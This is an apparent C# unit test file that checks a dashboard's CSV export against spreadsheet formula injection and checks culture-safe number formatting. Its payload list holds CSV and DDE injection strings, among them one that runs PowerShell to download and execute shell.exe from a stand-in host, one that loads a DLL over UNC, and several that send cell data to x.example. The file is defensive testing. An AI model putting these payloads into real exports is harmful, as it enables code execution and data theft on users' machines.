// What spreadsheets would compute is text in our files, and numbers are still numbers.
using System.Globalization;
using CxDashboard.Core.Calendars;
using CxDashboard.Core.Kpis;
using CxDashboard.Core.Statistics;
using CxDashboard.Web.Metrics;

namespace CxDashboard.Tests.Metrics;

public sealed class CsvTests
{
    public static TheoryData<string> Payloads =>
    [
        "=1+1", "=1+1\";=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C calc.exe'!'A1'", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x.example/?q=\"&A1,\"click\")", "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "=IMPORTDATA(\"http://x.example\")",
        "=IMAGE(\"http://x.example/a.png\")", "=WEBSERVICE(\"http://x.example/\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "DDE (\"cmd\";\"/C calc\";\"!A0\")", "@SUM(1+9)*cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'",
        "=cmd|'/C powershell IEX(wget x.example/shell.exe)'!A0", "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
        "+1+1", "-1+1", "-2+3+cmd|' /C calc'!D2", "@A1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\t", "\r", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
        "=", "+", "-", "@", "=A1\0", "\0=1+1", "=\"a\"\"b\"", "=1+1,=2+2", "=1\r\n=2", "--1", "=-1", "=+1", "%0A=1+1", "a\",=1+1", "a\n=1+1",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void A_payload_stays_one_text_cell_that_starts_no_formula(string payload)
    {
        var cell = Assert.Single(Assert.Single(Read(Csv.Text(payload))));
        var seen = cell.TrimStart();
        Assert.False(seen.Length > 0 && "=+-@＝＋－＠\t\r\n".Contains(seen[0]), $"the cell begins with {seen[0]}");
        Assert.False(cell.Length > 0 && char.IsControl(cell[0]));
        // Nothing is lost but the sign that no text may hold.
        Assert.EndsWith(payload.Replace("\0", "", StringComparison.Ordinal), cell, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void A_payload_in_the_notes_above_the_rows_stays_inside_its_cell_whatever_separates_cells(string payload)
    {
        var line = Csv.About("Filters", payload);
        Assert.StartsWith("# Filters:", Assert.Single(Assert.Single(Read(line))), StringComparison.Ordinal);
        Assert.DoesNotContain(line, sign => sign is ',' or ';' or '|' or '\t' or '\r' or '\n' or '"');
    }

    [Fact]
    public void Plain_text_is_left_as_it_is() => Assert.Equal(["Email", "a b", "5 of 10", ""], new[] { "Email", "a b", "5 of 10", null }.Select(Csv.Text));

    [Theory]
    [InlineData(-5.25)]
    [InlineData(0)]
    [InlineData(70.1)]
    [InlineData(-14.628)]
    [InlineData(1234567.89)]
    [InlineData(33.333333333333336)]
    [InlineData(-0.0001)]
    public void A_number_reads_back_as_the_same_number_in_any_culture(double number)
    {
        var before = CultureInfo.CurrentCulture;
        try
        {
            CultureInfo.CurrentCulture = new CultureInfo("de-DE");
            var cell = Csv.Number(number);
            Assert.DoesNotContain('\'', cell);
            Assert.DoesNotContain('"', cell);
            Assert.DoesNotContain(',', cell);
            Assert.Equal(number, double.Parse(cell, NumberStyles.Float, CultureInfo.InvariantCulture));
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }
    }

    [Fact]
    public void Minus_five_and_a_quarter_is_written_with_a_plain_minus() => Assert.Equal("-5.25", Csv.Number(-5.25));

    [Fact]
    public void The_trend_has_a_row_a_step_and_hides_what_may_not_be_shown()
    {
        var day = new DateOnly(2026, 4, 1);
        SeriesPoint Point(int i, Measure measure) => new(new DateRange(day.AddDays(i), day.AddDays(i)), false, measure);
        var series = new Series(Grain.Day,
        [
            Point(0, new Measure(-5.25, -21, 400, new Interval(-9.5, -1), State.Fresh, null) { Parts = new Parts(400, 100, 121) }),
            Point(1, new Measure(null, 0, 7, null, State.TooFew, null, "not enough answers: 7 of at least 30")),
            Point(2, Measure.Nothing("no answers in these days")),
        ]);

        var rows = Read(TrendCsv.Of(Catalogue.Get("nps"), series, [("Metric", "Net Promoter Score"), ("Filters", "channel = =1+1, x")]));

        Assert.Equal(["# Metric: Net Promoter Score"], rows[0]);
        Assert.Equal(["# Filters: channel = =1+1 · x"], rows[1]);
        Assert.Equal("day,value,numerator,denominator,n,state", string.Join(',', rows[2].Take(6)));
        Assert.Equal(["2026-04-01", "-5.25", "-21", "400", "400", "Fresh"], rows[3].Take(6));
        Assert.Equal(["2026-04-02", "", "", "", "7", "TooFew"], rows[4].Take(6));
        Assert.Equal(["2026-04-03", "", "", "", "", "Missing"], rows[5].Take(6));
        Assert.All(rows.Skip(2), row => Assert.Equal(10, row.Count));
    }

    /// <summary>Reads RFC 4180: quotes hold commas, line ends and doubled quotes.</summary>
    internal static List<List<string>> Read(string text)
    {
        var (rows, row, cell, quoted) = (new List<List<string>>(), new List<string>(), new System.Text.StringBuilder(), false);
        for (var i = 0; i < text.Length; i++)
        {
            var sign = text[i];
            if (quoted && sign == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
            else if (sign == '"') quoted = !quoted;
            else if (!quoted && sign == ',') { row.Add(cell.ToString()); cell.Clear(); }
            else if (!quoted && sign == '\r' && i + 1 < text.Length && text[i + 1] == '\n') { }
            else if (!quoted && sign == '\n') { row.Add(cell.ToString()); cell.Clear(); rows.Add(row); row = []; }
            else cell.Append(sign);
        }

        if (cell.Length > 0 || row.Count > 0 || rows.Count == 0) { row.Add(cell.ToString()); rows.Add(row); }
        return rows;
    }
}
